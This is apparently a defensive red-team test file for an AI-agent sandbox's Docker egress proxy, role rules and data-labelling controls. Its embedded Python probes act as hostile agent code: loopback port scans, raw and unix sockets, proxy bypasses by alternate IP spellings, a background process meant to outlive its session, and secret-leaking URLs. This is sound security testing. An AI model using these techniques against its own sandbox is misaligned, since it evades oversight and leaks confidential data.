import { existsSync, readdirSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkEngine, createDockerClient } from '../../src/main/providers'
import { egressPlace } from '../../src/main/host/egress-wiring'
import { labels } from '../../src/main/providers/docker/docker-engine'
import { skipReasonFor } from '../support/components'
import { ensureTestImages } from '../support/docker-images'
import { openEgressStage, type EgressStage } from '../support/egress-stage'

// Red team of `network: "proxy"` on docker and of per-role egress rules (SPEC §6.3, §6.5), through
// the real action path: hostile code in a session's container (network mode `none`, a bridge
// sidecar in its network namespace) tries every way around or through the bridge — other loopback
// ports (IPv4 and IPv6), raw and packet sockets, abstract unix sockets shared through the network
// namespace, routes, CONNECT/SOCKS5/forward to the container's or the host's loopback by every
// spelling, a background process outliving its run. Agents of two roles (and an agent whose id is
// a role's id) try to borrow each other's rules. A tainted session tries to write down through
// every spelling of a lower-labelled host. A session ended while its container and bridge are being
// created must leave nothing behind. Only loopback servers of this test are ever contacted. Every
// test asserts the SECURE behaviour: a failing test is a hole.

const docker = createDockerClient()
const engine = await checkEngine(docker)
const skip = skipReasonFor('Docker engine', { available: engine.ok, reason: engine.ok ? '' : engine.reason })
const secret = 'airlock-redteam14-secret-9f3a'

/** Python helpers the container's code uses to speak to the bridge itself (no library does the asking for it). */
const helpers = String.raw`
import socket, struct, sys
def first_line(s):
    data = b''
    while b'\r\n' not in data:
        chunk = s.recv(200)
        if not chunk: break
        data += chunk
    return data.split(b'\r\n')[0].decode(errors='replace')
def connect(target):
    try:
        s = socket.create_connection(('127.0.0.1', 3128), 20)
        s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
        return first_line(s)
    except Exception as e:
        return 'error %r' % e
def forward(url):
    try:
        s = socket.create_connection(('127.0.0.1', 3128), 20)
        host = url.split('/')[2]
        s.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (url, host)).encode())
        return first_line(s)
    except Exception as e:
        return 'error %r' % e
def socks(atyp, addr, port):
    try:
        s = socket.create_connection(('127.0.0.1', 3128), 20)
        s.sendall(b'\x05\x01\x00')
        if s.recv(2) != b'\x05\x00': return 'no greeting'
        if atyp == 1: a = socket.inet_aton(addr)
        elif atyp == 4: a = socket.inet_pton(socket.AF_INET6, addr)
        else: a = bytes([len(addr)]) + addr.encode()
        s.sendall(b'\x05\x01\x00' + bytes([atyp]) + a + struct.pack('>H', port))
        r = s.recv(10)
        return 'socks %d' % (r[1] if len(r) > 1 else -1)
    except Exception as e:
        return 'error %r' % e
`

describe.skipIf(skip !== undefined)(`red team: docker egress bridge, roles and write-down${skip ? ` (skipped: ${skip})` : ''}`, { timeout: 120_000 }, () => {
  let stage: EgressStage
  let port: number
  let refuser: NodeJS.Timeout
  /** Summaries of the network questions the operator (this test) refused. */
  const asked: string[] = []
  const py = (agent: string, source: string) => stage.run(agent, `python3 - 2>&1 <<'PY'\n${helpers}\n${source}\nPY\necho "rc=$?"`)
  // A container removed between the list and its inspect (404) is gone, as the cleanup tests want.
  const owned = async (sessionId: string) => {
    const listed = await docker.listContainers({ all: true, filters: { label: [`${labels.owner}=${sessionId}`] } })
    const inspected = await Promise.all(
      listed.map((c) =>
        docker
          .getContainer(c.Id)
          .inspect()
          .catch((error: { statusCode?: number }) => (error.statusCode === 404 ? undefined : Promise.reject(error)))
      )
    )
    return inspected.filter((container) => container !== undefined)
  }
  const socketDirs = () => {
    const { runDir, prefix } = egressPlace(stage.host.paths.home)
    return existsSync(runDir) ? readdirSync(runDir).filter((name) => name.startsWith(prefix)) : []
  }

  beforeAll(async () => {
    await ensureTestImages(docker)
    const proxied = { providers: ['docker' as const], network: 'proxy' as const }
    stage = await openEgressStage({
      prefix: 'airlock-redteam-docker-roles-',
      pinned: ['pkgs.test', 'public.test', 'vault.test', 'roleonly.test', 'roledeny.test', 'denied.test'],
      agents: {
        intruder: { ...proxied, capabilities: ['shell', 'python'], ask: 'never' },
        tainted: {
          ...proxied,
          capabilities: ['files', 'shell', 'python'],
          ask: 'on_risk',
          classificationCeiling: 'CONFIDENTIAL',
          labels: { paths: { 'secrets/**': 'CONFIDENTIAL' }, domains: { 'vault.test': 'CONFIDENTIAL' } }
        },
        reader: {
          ...proxied,
          capabilities: ['files', 'shell', 'python'],
          ask: 'on_risk',
          classificationCeiling: 'CONFIDENTIAL',
          labels: { paths: { 'secrets/**': 'CONFIDENTIAL' } }
        },
        racer: { ...proxied, capabilities: ['shell'], ask: 'never' }
      }
    })
    port = stage.port
    const { host } = stage
    // Two roles with the same defaults; only their rules differ.
    const roleDefaults = { capabilities: ['shell', 'python'], providers: ['docker'], network: 'proxy', ask: 'never' }
    host.agents.roles.save({ id: 'builders', defaults: roleDefaults })
    host.agents.roles.save({ id: 'others', defaults: roleDefaults })
    host.agents.service.create('builder', { role: 'builders', profile: {} })
    host.agents.service.create('outsider', { role: 'others', profile: {} })
    // An agent whose id is the role's id, with no role: a role rule is not an agent rule.
    host.agents.service.create('builders', { profile: { capabilities: ['shell', 'python'], providers: ['docker'], network: 'proxy', ask: 'never' } })
    for (const agent of ['builder', 'outsider', 'builders']) stage.sessions[agent] = host.agents.sessions.start(agent, 'test').sessionId

    host.store.network.addRule({ agentId: 'intruder', decision: 'allow', host: 'pkgs.test', port })
    host.store.network.addRule({ agentId: null, roleId: 'builders', decision: 'allow', host: 'roleonly.test' })
    host.store.network.addRule({ agentId: null, roleId: 'builders', decision: 'deny', host: 'roledeny.test' })
    host.store.network.addRule({ agentId: 'builder', decision: 'allow', host: 'roledeny.test' })
    host.store.network.addRule({ agentId: 'outsider', decision: 'allow', host: 'pkgs.test' })
    for (const agentId of ['tainted', 'reader']) {
      for (const allowed of ['public.test', 'vault.test', 'denied.test', '127.0.0.1']) host.store.network.addRule({ agentId, decision: 'allow', host: allowed })
    }
    host.store.network.addRule({ agentId: null, decision: 'deny', host: 'denied.test' })
    // The operator refuses every network question, noting it; a policy write-down question about a read is refused too.
    refuser = setInterval(() => {
      for (const item of host.approvals.list()) {
        if (item.kind === 'network') {
          asked.push(item.summary)
          host.approvals.decide({ id: item.id, decision: 'deny', reason: 'red team: no' })
        } else if (item.kind === 'write_down') {
          asked.push(`write_down: ${item.summary}`)
          host.approvals.decide({ id: item.id, decision: 'deny', reason: 'red team: no' })
        }
      }
    }, 50)
  }, 600_000)

  afterAll(async () => {
    clearInterval(refuser)
    await stage?.close()
  }, 60_000)

  describe('escaping the bridge from the container', () => {
    it('only the bridge port listens on the container loopback (every TCP port of 127.0.0.1 and ::1 tried); no route, no raw or packet socket, no abstract unix socket', async () => {
      const probe = await py(
        'intruder',
        String.raw`
import os, errno, select
def scan(family, addr):
    found = []
    for p in range(1, 65536):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            # (a connection to itself, when the kernel picks p as the source port too, is no listener)
            if s.connect_ex((addr, p)) == 0 and s.getsockname()[:2] != s.getpeername()[:2]: found.append(p)
        except OSError:
            pass
        finally:
            s.close()
    return found
print('v4', scan(socket.AF_INET, '127.0.0.1'))
try:
    print('v6', scan(socket.AF_INET6, '::1'))
except OSError as e:
    print('v6', [])
print('ifaces', sorted(os.listdir('/sys/class/net')))
print('routes', open('/proc/net/route').read().splitlines()[1:])
for name, args in [('packet', (socket.AF_PACKET, socket.SOCK_RAW, 0)), ('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)), ('raw6', (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))]:
    try:
        socket.socket(*args).close(); print(name, 'OPEN')
    except OSError as e:
        print(name, 'refused' if e.errno in (errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT) else e.errno)
abstract = [line.split()[-1] for line in open('/proc/net/unix').read().splitlines()[1:] if line.split()[-1].startswith('@')]
reached = []
for name in abstract:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect('\0' + name[1:]); reached.append(name)
    except OSError:
        pass
print('abstract', abstract, reached)
paths = [line.split()[-1] for line in open('/proc/net/unix').read().splitlines()[1:] if len(line.split()) > 7 and line.split()[-1].startswith('/')]
print('unix paths', paths)
`
      )
      expect(probe.data.stdout).toBe(
        [
          'v4 [3128]',
          'v6 []',
          "ifaces ['lo']",
          'routes []',
          'packet refused',
          'raw refused',
          'raw6 refused',
          'abstract [] []',
          'unix paths []',
          'rc=0',
          ''
        ].join('\n')
      )
    })

    it("through the bridge, the container's and the host's loopback are refused by every spelling (CONNECT, forward, SOCKS5 by name, IPv4 and IPv6)", async () => {
      const before = stage.seen.length
      const attempts = await py(
        'intruder',
        `
P = ${port}
for target in ['127.0.0.1:3128', '127.0.0.1:%d' % P, 'localhost:%d' % P, '[::1]:%d' % P, '[::ffff:127.0.0.1]:%d' % P, '[::ffff:7f00:1]:%d' % P, '0.0.0.0:%d' % P, '127.1:%d' % P, '2130706433:%d' % P, '0177.0.0.1:%d' % P, '[::]:%d' % P, 'pkgs.test:3128', 'pkgs.test:22']:
    print('connect', target, connect(target))
for url in ['http://127.0.0.1:3128/', 'http://[::1]:%d/' % P, 'http://[::ffff:127.0.0.1]:%d/' % P, 'http://pkgs.test:3128/']:
    print('forward', url, forward(url))
for atyp, addr, p in [(1, '127.0.0.1', P), (1, '127.0.0.1', 3128), (1, '0.0.0.0', P), (4, '::1', P), (4, '::ffff:127.0.0.1', P), (4, '::', P), (3, '127.0.0.1', P), (3, 'localhost', P), (3, 'pkgs.test', 3128), (3, 'PKGS.TEST.', 3128)]:
    print('socks', atyp, addr, p, socks(atyp, addr, p))
print('allowed', connect('pkgs.test:%d' % P))
`
      )
      const lines = attempts.data.stdout.trim().split('\n')
      expect(lines.at(-1)).toBe('rc=0')
      expect(lines.at(-2)).toBe('allowed HTTP/1.1 200 Connection Established')
      const refused = lines.slice(0, -2)
      expect(refused).toHaveLength(27)
      for (const line of refused) expect(line, line).toMatch(/ (HTTP\/1\.1 (400 Bad Request|403 Forbidden)|socks 2)$/)
      expect(stage.seen.slice(before)).toEqual([])
    })

    it("a background process cannot connect after its run ended, and nothing lands in the next run's lineage", async () => {
      const before = stage.seen.length
      const launched = await stage.run(
        'intruder',
        `(setsid nohup sh -c 'sleep 3; python3 -c "import urllib.request; urllib.request.urlopen(\\"http://pkgs.test:${port}/late\\")"' >/dev/null 2>&1 &) ; echo started`
      )
      expect(launched.data.stdout).toBe('started\n')
      await new Promise((resolve) => setTimeout(resolve, 6000))
      const next = await stage.run('intruder', 'true')
      expect(stage.seen.slice(before)).toEqual([])
      expect(next.lineage()).toEqual([])
    })
  })

  describe('rules per role, attribution per agent', () => {
    it("a role allow is only for agents of that role (not another role, not an agent whose id is the role's), and a role deny beats the agent's own allow; run at once, each lineage is its own", async () => {
      const before = stage.seen.length
      const script = `print(forward('http://roleonly.test:${port}/role'))\nprint(forward('http://roledeny.test:${port}/deny'))`
      const [builder, outsider, namesake] = await Promise.all([py('builder', script), py('outsider', script), py('builders', script)])
      expect(builder.data.stdout).toBe('HTTP/1.1 200 OK\nHTTP/1.1 403 Forbidden\nrc=0\n')
      expect(outsider.data.stdout).toBe('HTTP/1.1 403 Forbidden\nHTTP/1.1 403 Forbidden\nrc=0\n')
      expect(namesake.data.stdout).toBe('HTTP/1.1 403 Forbidden\nHTTP/1.1 403 Forbidden\nrc=0\n')
      expect(stage.seen.slice(before)).toEqual([`GET roleonly.test:${port} /role`])
      const summary = (run: typeof builder) => run.lineage().map((entry) => `${entry.endpoint} ${entry.decision}`)
      expect(summary(builder)).toEqual([`roleonly.test:${port} allowed`, `roledeny.test:${port} denied`])
      expect(summary(outsider)).toEqual([`roleonly.test:${port} denied`, `roledeny.test:${port} denied`])
      expect(summary(namesake)).toEqual([`roleonly.test:${port} denied`, `roledeny.test:${port} denied`])
      const reasons = (run: typeof builder) => run.lineage().map((entry) => (entry as { reason?: string }).reason ?? '')
      expect(reasons(builder)[1]).toMatch(/denied by deny roledeny\.test \(role builders/)
      expect(reasons(outsider)[0]).toMatch(/agent outsider is never asked/)
    })

    it("the proxy credits each agent's container with its own connections (no cross-session lineage)", async () => {
      const [mine, theirs] = await Promise.all([
        py('outsider', `print(forward('http://pkgs.test:${port}/outsider'))`),
        py('intruder', `print(forward('http://pkgs.test:${port}/intruder'))`)
      ])
      expect(mine.data.stdout).toBe('HTTP/1.1 200 OK\nrc=0\n')
      expect(theirs.data.stdout).toBe('HTTP/1.1 200 OK\nrc=0\n')
      expect(stage.host.agents.history.detail(mine.result.meta.callId as string)).toMatchObject({ agentId: 'outsider' })
      expect(stage.host.agents.history.detail(theirs.result.meta.callId as string)).toMatchObject({ agentId: 'intruder' })
      expect(mine.lineage().map((entry) => entry.endpoint)).toEqual([`pkgs.test:${port}`])
      expect(theirs.lineage().map((entry) => entry.endpoint)).toEqual([`pkgs.test:${port}`])
    })
  })

  describe('write-down per connection on docker', () => {
    beforeAll(async () => {
      const call = (tool: string, input: Record<string, unknown>) => stage.host.agents.sessions.execute({ sessionId: stage.sessions.tainted!, tool, input })
      await call('write_file', { path: 'secrets/key', content: `${secret}\n` })
      expect(await call('read_file', { path: 'secrets/key' })).toMatchObject({ meta: { policy: { taintAfter: 'CONFIDENTIAL' } } })
    }, 60_000)

    it('every spelling of an allowed lower-labelled host (case, trailing dot, IP literals, SOCKS5 name and address) is asked as a write-down and, refused, never connects', async () => {
      const before = stage.seen.length
      const questions = asked.length
      const attempts = await py(
        'tainted',
        `
P = ${port}
for target in ['public.test', 'PUBLIC.TEST', 'Public.Test.', '127.0.0.1', '[::ffff:127.0.0.1]', '2130706433']:
    print('connect', target, connect('%s:%d' % (target, P)))
    print('forward', target, forward('http://%s:%d/leak?k=${secret}' % (target, P)))
for atyp, addr in [(3, 'public.test'), (3, 'PUBLIC.test.'), (1, '127.0.0.1'), (4, '::ffff:127.0.0.1'), (3, '127.0.0.1')]:
    print('socks', atyp, addr, socks(atyp, addr, P))
`
      )
      const lines = attempts.data.stdout.trim().split('\n')
      expect(lines.at(-1)).toBe('rc=0')
      for (const line of lines.slice(0, -1)) expect(line, line).toMatch(/ (HTTP\/1\.1 403 Forbidden|socks 2)$/)
      expect(lines.slice(0, -1)).toHaveLength(17)
      // Each one was a write-down question (the operator said no), none went out.
      const newQuestions = asked.slice(questions)
      expect(newQuestions).toHaveLength(17)
      for (const question of newQuestions) expect(question, question).toMatch(/^tainted wants .+ \(write-down\)$/)
      expect(stage.seen.slice(before)).toEqual([])
    })

    it('a deny rule refuses a write-down before anyone is asked; a host labelled at the taint passes unasked', async () => {
      const before = stage.seen.length
      const questions = asked.length
      const result = await py('tainted', `print(forward('http://denied.test:${port}/leak'))\nprint(forward('http://VAULT.test.:${port}/ok'))`)
      expect(result.data.stdout).toBe('HTTP/1.1 403 Forbidden\nHTTP/1.1 200 OK\nrc=0\n')
      expect(asked.slice(questions)).toEqual([])
      expect(stage.seen.slice(before)).toEqual([`GET VAULT.test.:${port} /ok`])
    })

    it('a labelled read while a proxied docker run is in flight (a tunnel already open) is asked, and refused it does not taint or leak', async () => {
      const reader = stage.sessions.reader!
      const call = (tool: string, input: Record<string, unknown>) => stage.host.agents.sessions.execute({ sessionId: reader, tool, input })
      await call('write_file', { path: 'secrets/key', content: `${secret}\n` })
      const before = stage.seen.length
      // The run opens a tunnel while the session is still PUBLIC, then keeps it open and sends whatever appears in /tmp/drop.
      const holder = py(
        'reader',
        `
import time, os
s = socket.create_connection(('127.0.0.1', 3128), 20)
s.sendall(('CONNECT public.test:${port} HTTP/1.1\\r\\n\\r\\n').encode())
print(first_line(s), flush=True)
for i in range(80):
    time.sleep(0.1)
s.sendall(b'GET /held HTTP/1.1\\r\\nHost: public.test\\r\\n\\r\\n')
print(len(s.recv(300)) > 0)
`
      )
      await new Promise((resolve) => setTimeout(resolve, 3000))
      const read = await call('read_file', { path: 'secrets/key' })
      expect(read.status).not.toBe('success')
      expect(JSON.stringify(read.data ?? '')).not.toContain(secret)
      expect(asked.some((question) => question.startsWith('write_down:'))).toBe(true)
      const held = await holder
      expect(held.data.stdout).toMatch(/^HTTP\/1\.1 200 Connection Established\nTrue\nrc=0\n$/)
      expect(stage.host.store.sessions.taint(reader)).toBe('PUBLIC')
      expect(stage.seen.slice(before).some((line) => line.includes(secret))).toBe(false)
    })
  })

  describe('nothing is left behind', () => {
    it('a session ended while its first proxied container and bridge are being created leaves no container, bridge or socket', async () => {
      const session = stage.sessions.racer!
      const socketsBefore = new Set(socketDirs())
      const running = stage.run('racer', 'sleep 30').catch((error: unknown) => error)
      // End it as soon as the engine has been asked for its container (or after 1.5 s at the latest).
      const deadline = Date.now() + 1500
      while (Date.now() < deadline && (await owned(session)).length === 0) await new Promise((resolve) => setTimeout(resolve, 20))
      await stage.host.agents.sessions.end(session)
      await running
      await new Promise((resolve) => setTimeout(resolve, 5000))
      await expect.poll(async () => (await owned(session)).map((c) => `${c.Name} ${c.State.Status}`), { timeout: 30_000 }).toEqual([])
      expect(socketDirs().filter((name) => !socketsBefore.has(name))).toEqual([])
    })

    it("a session's end removes every container, bridge and egress socket of it (after real runs)", async () => {
      const session = stage.sessions.intruder!
      const containers = await owned(session)
      const bridges = containers.filter((c) => c.HostConfig.NetworkMode?.startsWith('container:'))
      expect(bridges.length).toBeGreaterThan(0)
      const dirs = bridges.map((c) => c.HostConfig.Binds![0]!.split(':')[0]!)
      await stage.host.agents.sessions.end(session)
      await expect.poll(async () => (await owned(session)).length, { timeout: 30_000 }).toBe(0)
      expect(dirs.filter((dir) => existsSync(dir))).toEqual([])
    })
  })
})
